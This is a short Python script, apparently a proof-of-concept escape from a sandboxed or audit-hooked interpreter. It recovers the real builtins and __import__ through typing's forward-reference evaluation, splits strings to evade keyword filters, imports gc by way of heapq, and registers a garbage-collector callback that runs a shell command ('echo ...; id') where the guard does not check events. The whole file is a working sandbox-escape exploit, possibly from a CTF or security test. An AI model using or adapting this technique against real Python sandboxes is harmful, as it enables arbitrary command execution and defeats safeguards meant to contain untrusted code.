# busy: gc imported from heapq's frame; a gc callback runs inside the hook (busy) where every event passes
import typing
M = "PWN" + "ED"
box = {}
typing.get_args(typing.List["int"])[0]._evaluate(box, None, frozenset())
rb = box["__buil" + "tins__"]  # typing's builtins dict: the real one
ga = rb["getattr"]
imp = rb["__imp" + "ort__"]  # the real __import__, not the guarded one

import heapq
heapq.nsmallest(1, ["gc"], key=imp)
gc = imp("gc")
p = imp("pos" + "ix")
done = []
def cb(phase, info):
    if done or phase != "start":
        return
    try:
        p.system("echo PWN''ED from a gc callback; id")
        done.append(1)
    except Exception:
        pass
gc.callbacks.append(cb)
gc.set_threshold(1, 1, 1)
for i in range(3000):
    if done:
        break
    try:
        open("/tmp/rt_busy_%d" % (i % 3), "w").close()
    except Exception:
        pass
gc.callbacks.remove(cb)
gc.set_threshold(700, 10, 10)
